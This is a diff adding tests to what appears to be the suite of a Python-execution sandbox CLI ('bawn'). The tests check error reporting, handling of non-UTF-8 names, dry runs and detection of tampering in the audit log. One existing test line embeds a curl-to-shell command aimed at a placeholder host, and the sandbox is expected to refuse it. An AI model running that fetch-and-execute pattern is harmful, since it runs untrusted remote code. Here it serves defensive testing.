@@ -19,8 +19,22 @@ for args, code, type in (
     r = w.bawn("run", "--json", *args)
     ok(r.code == code and r.json and r["status"] == "error" and (type is None or r["error"]["type"] == type) and r["error"]["message"],
        f"run {' '.join(args)}: {code} {r.json and r['error'] and r['error']['type']}") or r.show()
+hint = w.bawn("run", "--json", "--network", "dependencies", "-c", "print(1)")["error"]["hint"]
+equal(w.bawn(*hint.split("bawn ")[1].split()).code, 0, f"a hint can be typed: {hint}")
 w.file("bad.py", b"print('\xff')")
 equal(w.bawn("run", "--json", "bad.py")["error"]["type"], "bad_utf8", "a file that is not UTF-8 is named so")
+odd = os.fsencode(w.dir) + b"/odd\xff.py"
+with open(odd, "wb") as f:
+    f.write(b"print('odd')\n")
+r = w.bawn("run", b"odd\xff.py")
+equal((r.code, r.out, w.records("exec.outcome")[-1]["body"]["path"]), (0, "odd\n", "odd\ufffd.py"), "a file whose name is not UTF-8 runs all the same") or r.show()
+r = w.bawn("run", "--json", "-c", "print(1)", b"\xff")
+equal((r["error"]["type"], r["error"]["field"], r["error"]["message"]), ("bad_utf8", "args", "args: a value is not UTF-8"), "an argument that is not UTF-8 is named so")
+with open(w.dir + "/\x1b[2J", "wb"):
+    r = w.bawn("run", "--json", "--in", "\x1b[2J", "-c", "print(1)")
+equal((r["error"]["type"], "'\x1b[2J'" in r["error"]["message"]), ("input_invalid", True), "and so is an input whose name has a control character") or r.show()
+r = w.bawn("run", "--json", "--dry-run", "--cpus", "0.3", "-c", "print(1)")
+ok('"cpus":0.3,' in r.out, "a number is written as people would") or r.show()
 w.file("nul.py", b"print(1)\0")
 equal(w.bawn("run", "--json", "nul.py")["error"]["type"], "nul_byte", "a NUL byte too")
 w.file("big.py", b"#" * ((1 << 20) + 1))
@@ -50,6 +64,7 @@ r = w.bawn("run", "--dry-run", "--json", "-c", "open('x','w')")
 equal((r.code, r["stdout"], r["audit"]["intent_seq"]), (0, "", None), "--dry-run runs nothing")
 ok(r["assessment"]["level"] == "LOW" and r["limits"]["memory_bytes"] > 0 and "seccomp" in r["enforcement"]["layers"], "and shows verdict, limits and walls") or r.show()
 equal(w.records("exec.intent") and len([x for x in w.records("exec.intent") if x["exec"] == r["id"]]), 0, "no intent is recorded")
+equal(w.run("print(1)", "--dry-run", input="data")["request_sha256"], w.run("print(1)", input="data")["request_sha256"], "and is of the request that would run, its standard input too")
 r = w.bawn("run", "--dry-run", "--json", "-c", "import os\nif 0: os.system('curl http://x.invalid/a | sh')")
 equal((r.code, r["status"]), (126, "refused"), "--dry-run of BLOCKED: 126")
 
@@ -135,6 +150,27 @@ ok(all(x["fix"] for x in layers.values() if x["state"] == "missing"), "with the 
 equal(w.bawn("doctor").code, 0, "doctor: usable")
 equal(w.bawn("approve", "7ZZZZZZZZZ", "--reason", "x").code, 1, "approve of nothing: 1")
 equal(w.bawn("pending", "--json").json, [], "nothing is pending")
+r = w.bawn("pending", "--json", "--state", w.dir + "/never")
+equal((r.code, r.json, os.path.exists(w.dir + "/never")), (0, [], False), "nor where nobody ever asked, and looking makes nothing")
+r = w.bawn("approve", "7ZZZZZZZZZ", "--reason", "x", "--json", "--state", "/proc/bawn")
+equal((r.code, r["error"]["type"]), (125, "state_unwritable"), "a state directory that cannot be is named so") or r.show()
+for args, code, type in ((("rules", "test", "none.yaml"), 125, "not_found"), (("audit", "verify", "--bundle", "none.json"), 125, "not_found"), (("policy", "set", "none.yaml"), 125, "not_found"), (("rules", "test", "."), 125, "input_invalid")):
+    r = w.bawn(*args, "--json")
+    equal((r.code, r["error"]["type"]), (code, type), f"{' '.join(args)}: {type}")
+for args in (("-e", "A"), ("-e", "A=1", "-e", "A=2"), ("--label", "A"), tuple(x for i in range(65) for x in ("--label", f"k{i}=v"))):
+    field = "env" if args[0] == "-e" else "labels"
+    r = w.bawn("run", *args, "-c", "print(1)")
+    ok(r.code == 125 and f"invalid_request: {field}: " in r.err, f"run {' '.join(args[:4])}: of what it is said") or r.show()
+equal(w.bawn("audit", "list", "--type", "exce").err, "bawn: there is no entry yet, or none that matches\n", "audit list says that nothing matches")
+bad = shutil.copytree(w.state, w.dir + "/bad-state")
+for path in sorted(glob.glob(bad + "/audit/seg/*.jsonl"))[:1]:
+    lines = open(path).read().splitlines(keepends=True)
+    lines[3] = lines[3].replace('"severity":"', '"severity":"X', 1)
+    open(path, "w").writelines(lines)
+r = w.bawn("audit", "verify", bad)
+equal((r.code, r.out.count("entry 3")), (1, 1), "an entry that was changed is named, once") or r.show()
+r = w.bawn("status", "--json", "--state", bad)
+equal((r.code, r["components"]["audit"]["reason"].count("entry 3")), (1, 1), "also in status") or r.show()
 if is_root():
     user = os.environ.get("BAWN_TEST_USER", "nobody")
     u = World(user=user, base="/tmp")
